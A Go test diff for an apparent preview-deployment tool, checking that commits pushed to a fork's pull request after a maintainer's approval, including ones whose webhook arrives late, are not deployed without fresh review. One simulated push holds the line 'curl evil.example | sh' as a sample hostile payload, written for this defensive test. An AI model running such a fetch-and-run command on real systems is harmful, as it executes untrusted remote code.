@@ -541,7 +541,40 @@ func TestForkPullRequestWaitsForApproval(t *testing.T) {
 		t.Fatal("the fork's author approved their own PR")
 	}
 	w.comment(res.Number, "alice", "write", "/stagely deploy")
-	eventually(t, 5*time.Second, func() (bool, string) { return len(d.Deploys()) == 1, "writer's /stagely deploy did not deploy" })
+	eventually(t, 5*time.Second, func() (bool, string) {
+		rs := w.runs(res.SHA)
+		return len(d.Deploys()) == 1 && len(rs) == 2 && rs[1].Conclusion == "success", "writer's /stagely deploy did not deploy: " + describeRuns(rs)
+	})
+
+	// The approval is for the commit reviewed: the fork's next push waits
+	// for its own.
+	push := w.push(res.Number, "curl evil.example | sh")
+	w.completed(push.SHA, "action_required", 5*time.Second)
+	if n := len(d.Deploys()); n != 1 {
+		t.Fatalf("the fork's push after the approval was deployed without review (%d deploys)", n)
+	}
+	w.comment(res.Number, "alice", "write", "/stagely deploy")
+	eventually(t, 5*time.Second, func() (bool, string) {
+		ds := d.Deploys()
+		return len(ds) == 2 && ds[1].SHA == push.SHA, "the second approval did not deploy the pushed commit"
+	})
+
+	// A push whose event is late (GitHub's delivery failed) when a
+	// maintainer approves: the approval is for the commit they were shown,
+	// not for the head the pull request has by then.
+	webhooks := "http://" + w.addr + "/api/github/hook"
+	w.sim.SetWebhookURL("http://127.0.0.1:1/api/github/hook")
+	late := w.push(res.Number, "pushed while the maintainer reads")
+	w.sim.SetWebhookURL(webhooks)
+	w.comment(res.Number, "alice", "write", "/stagely deploy")
+	eventually(t, 5*time.Second, func() (bool, string) { return len(d.Deploys()) == 3, "the third approval did not deploy" })
+	w.redeliverFailed(context.Background())
+	w.completed(late.SHA, "action_required", 5*time.Second)
+	for _, dep := range d.Deploys() {
+		if dep.SHA == late.SHA {
+			t.Fatalf("commit %s, pushed unseen before the approval, was deployed without review", late.SHA[:7])
+		}
+	}
 }
 
 func TestRepositoryConfigProblemsAreReported(t *testing.T) {
